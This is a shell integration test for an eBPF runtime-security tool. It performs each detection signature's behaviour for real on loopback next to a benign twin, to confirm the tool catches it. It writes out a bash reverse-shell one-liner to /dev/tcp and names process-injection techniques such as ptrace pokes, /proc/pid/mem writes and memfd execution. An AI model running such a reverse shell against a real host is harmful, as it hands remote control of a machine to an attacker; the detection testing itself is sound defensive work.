#!/bin/sh
# sig_live_proc.sh - the process signatures, for real (root, real eBPF).
#
# One tracee with the built-in signatures; each behaviour is performed for
# real by tests/integration/sig-actions under its own command name, next to
# a benign twin that must not fire:
#   TRC-101 stdio_over_socket        connect with the socket on fd 0 (stdin
#                                    closed first) / the same on fd 3+, and
#                                    bash's /dev/tcp dup'ed onto fd 4; bash -i
#                                    >& /dev/tcp/... 0>&1 (socket_dup)
#   TRC-102 anti_debugging           ptrace(PTRACE_TRACEME) / a debugger's
#                                    PTRACE_ATTACH + PEEKDATA
#   TRC-103 ptrace_code_injection    PTRACE_POKEDATA into a child / PEEKDATA
#   TRC-104 dynamic_code_loading     RW memory made R+X / made read-only
#   TRC-105 fileless_execution       fexecve() of a memfd / execv() of a file
#   TRC-1016 illegitimate_shell      "nginx" replaces itself with a shell,
#                                    "httpd" forks one / "make" execs a
#                                    shell, "nginx" execs a non-shell
#   TRC-1023 proc_mem_access         /proc/<child>/mem read (also as "mem"
#                                    from /proc/<child>) / its maps read
#   TRC-1024 proc_mem_code_injection /proc/<child>/mem written / only read
#   TRC-1025 process_vm_write_inject process_vm_writev() into a child /
#                                    into itself
# and the ones this kernel cannot give events for must say so in
# --list-signatures: TRC-1017 kernel_module_loading (module_load), TRC-1020
# proc_fops_hooking and TRC-1030 syscall_hooking (kprobes).
# Only loopback sockets; the injected processes are the helper's children.

. "$top_srcdir/tests/integration/sig_live_lib.sh"

PORT=$((20000 + $$ % 20000))

# act_pid VAR ARGS...: sig-actions in its own process; VAR gets its pid
act_pid() {
	sl_var=$1
	shift
	"$ACT" "$@" 2>>"$D/actions.err" &
	sl_p=$!
	wait "$sl_p" || printf '(exit %d) sig-actions %s\n' "$?" "$*" >>"$D/actions.err"
	eval "$sl_var=\$sl_p"
}

sh_pid() { # VAR PROG SCRIPT: PROG -c SCRIPT, its pid in VAR
	sl_var=$1
	"$2" -c "$3" 2>>"$D/actions.err" &
	sl_p=$!
	wait "$sl_p" || printf '(exit %d) %s -c %s\n' "$?" "$2" "$3" >>"$D/actions.err"
	eval "$sl_var=\$sl_p"
}

cp /bin/dash "$D/nginx" && cp /bin/dash "$D/httpd" && cp /bin/dash "$D/make" || skip_all "cannot copy /bin/dash"

# listen PORT: a loopback peer for a reverse shell, in the background: it
# sends "exit", then reads until the shell hangs up
listen() {
	rm -f "$D/ready.$1"
	python3 -c '
import socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1])))
s.listen(1)
s.settimeout(10)
open(sys.argv[2], "w").close()
c, _ = s.accept()
c.settimeout(10)
try:
    c.sendall(b"exit\n")
    while c.recv(4096):
        pass
except OSError:
    pass
' "$1" "$D/ready.$1" 2>>"$D/actions.err" &
	LISTENERS="$LISTENERS $!"
	sl_i=0
	while [ ! -e "$D/ready.$1" ] && [ $sl_i -lt 50 ]; do
		sleep 0.1
		sl_i=$((sl_i + 1))
	done
}
LISTENERS=
BASH=$(command -v bash) || skip_all "bash is missing (the reverse shell)"
cp "$BASH" "$D/revsh" && cp "$BASH" "$D/fdsh" || skip_all "cannot copy $BASH"

sl_start

act s101-hit stdio-connect 127.0.0.1 "$PORT"
act s101-twin connect 127.0.0.1 "$((PORT + 1))"
# the classic reverse shell: connect on fd 3, dup2 onto 0, 1 and 2 (an
# interactive bash: its history goes to the scratch dir, not ~)
listen $((PORT + 2))
HOME=$D HISTFILE=$D/history "$D/revsh" --norc -c "\"$D/revsh\" --norc -i >& /dev/tcp/127.0.0.1/$((PORT + 2)) 0>&1" \
	2>>"$D/actions.err" || echo "(exit $?) revsh" >>"$D/actions.err"
# bash's /dev/tcp on fd 3, duplicated onto fd 4 (a socket_dup, but not
# onto stdio: \`echo >&3' would be, for the echo's duration)
listen $((PORT + 3))
"$D/fdsh" --norc -c "exec 3<>/dev/tcp/127.0.0.1/$((PORT + 3)); exec 4>&3; exec 3>&- 4>&-" \
	2>>"$D/actions.err" || echo "(exit $?) fdsh" >>"$D/actions.err"
for p in $LISTENERS; do
	wait "$p"
done
act s102-hit traceme
act s102-twin peek
act s103-hit poke
act s103-twin peek
act s104-hit wx
act s104-twin wr
act_pid P105 s105-hit memfd-exec /bin/true
act_pid P105T s105-twin exec /bin/true
# a "web server" replaces itself with a shell (shellcode's execve), and
# another one forks a shell
sh_pid P1016 "$D/nginx" 'exec /bin/sh -c ":; :"'
"$D/httpd" -c '/bin/sh -c ":; :"; :' 2>>"$D/actions.err"
sh_pid P1016T "$D/make" 'exec /bin/sh -c ":; :"'
sh_pid P1016T2 "$D/nginx" 'exec /bin/true'
act s1023-hit memread
act s1023-twin mapsread
act s1023-rel memread-rel
act s1024-hit memwrite
act s1024-twin memread
act s1025-hit vmwrite
act s1025-twin vmwrite-self

sl_stop

fires TRC-101 stdio_over_socket s101-hit "socket connected on fd 0"
quiet TRC-101 stdio_over_socket s101-twin "socket connected on fd 3+"
fires TRC-101 stdio_over_socket revsh "bash -i >& /dev/tcp/... 0>&1 (socket_dup onto stdio)"
quiet TRC-101 stdio_over_socket fdsh "bash's /dev/tcp on fd 3, duplicated onto fd 4"
fires TRC-102 anti_debugging s102-hit "PTRACE_TRACEME"
quiet TRC-102 anti_debugging s102-twin "PTRACE_ATTACH and PEEKDATA"
quiet TRC-102 anti_debugging s103-hit "PTRACE_POKEDATA"
fires TRC-103 ptrace_code_injection s103-hit "PTRACE_POKEDATA"
quiet TRC-103 ptrace_code_injection s103-twin "PTRACE_PEEKDATA"
fires TRC-104 dynamic_code_loading s104-hit "mprotect RW -> RX"
quiet TRC-104 dynamic_code_loading s104-twin "mprotect RW -> R"
fires TRC-105 fileless_execution "pid:$P105" "fexecve of a memfd"
quiet TRC-105 fileless_execution "pid:$P105T" "execv of /bin/true"
fires TRC-1016 illegitimate_shell "pid:$P1016" "nginx replaces itself with sh"
is "$(sl_match TRC-1016 illegitimate_shell "pid:$P1016" | wc -l)" 1 "TRC-1016: reported once for nginx"
# the shell httpd forked: the other finding, for a process called sh
is "$(awk '$1 == "TRC-1016" { print $3 }' "$D/findings" | sort | tr '\n' ' ')" "sh sh " \
	"TRC-1016 illegitimate_shell fires once for the shell httpd forks"
quiet TRC-1016 illegitimate_shell "pid:$P1016T" "make execs sh"
quiet TRC-1016 illegitimate_shell "pid:$P1016T2" "nginx execs true"
fires TRC-1023 proc_mem_access s1023-hit "/proc/<pid>/mem read"
quiet TRC-1023 proc_mem_access s1023-twin "/proc/<pid>/maps read"
fires TRC-1023 proc_mem_access s1023-rel "mem read from /proc/<pid> (relative path)"
fires TRC-1024 proc_mem_code_injection s1024-hit "/proc/<pid>/mem written"
quiet TRC-1024 proc_mem_code_injection s1024-twin "/proc/<pid>/mem read"
fires TRC-1025 process_vm_write_inject s1025-hit "process_vm_writev into a child"
quiet TRC-1025 process_vm_write_inject s1025-twin "process_vm_writev into itself"

# TRC-101 without socket_dup: a socket dup2()ed onto stdio after the connect
# (bash -i >& /dev/tcp/...) is not seen; --list-signatures says partial.
why=$(event_unavailable socket_dup)
if [ -n "$why" ]; then
	listed TRC-101 partial 'unavailable: socket_dup'
fi

# Signatures whose events this kernel cannot give: said so, not faked.
if "$TRACEE" --probe 2>/dev/null | grep -q '^kprobe: yes'; then
	KPROBE=yes
else
	KPROBE=no
fi
for s in "TRC-1020 hooked_proc_fops" "TRC-1030 hooked_syscall"; do
	set -- $s
	if [ "$KPROBE" = no ]; then
		listed "$1" no "unavailable: $2; needs kprobes"
	else
		# hooking the syscall table or /proc's file operations for real takes
		# a rootkit module: not on a test machine
		skip "$1: $2 needs a hooked kernel; not done for real here"
	fi
done

why=$(event_unavailable module_load)
if [ -n "$why" ]; then
	diag "module_load: $why"
	[ "$(sl_column TRC-1017 AVAILABLE)" = no ]
	ok $? "--list-signatures: TRC-1017 available: no (module_load: $why)"
else
	# loading a module changes the machine: not done here
	skip "TRC-1017 kernel_module_loading: loading a kernel module is not done on a test machine"
fi

done_testing
